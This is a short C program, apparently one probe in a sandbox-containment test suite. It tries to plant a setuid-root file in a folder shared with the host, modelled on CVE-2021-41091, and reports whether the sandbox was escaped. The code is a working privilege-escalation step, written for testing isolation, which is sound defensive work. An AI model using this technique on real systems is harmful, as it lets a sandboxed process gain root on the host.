/*
 * Idea: root inside leaves a setuid-root program in a folder that the host shares with the sandbox; an ordinary user
 * of the host executes it there.
 * Incident: CVE-2021-41091 (Docker's data folder was world-executable: setuid files inside were usable outside).
 * Success: the file has the setuid bit and belongs to the host's root: the host looks, we cannot tell.
 * Usage: setuid-drop FOLDER
 */
#include "attempt.h"

int main(int argc, char **argv) {
  const char *folder = argument(argc, argv, 1, "a folder shared with the host");
  char path[512];
  snprintf(path, sizeof path, "%s/dropped", folder);
  int file = open(path, O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0755);
  if (file < 0) {
    stopped("create %s", path);
    contained();
  }
  if (fchown(file, 0, 0) < 0) stopped("chown %s", path);
  if (fchmod(file, 04755) < 0) stopped("chmod %s", path);
  if (reasons[0]) contained();
  escaped("left %s, setuid, as user %d of this side", path, getuid());
}
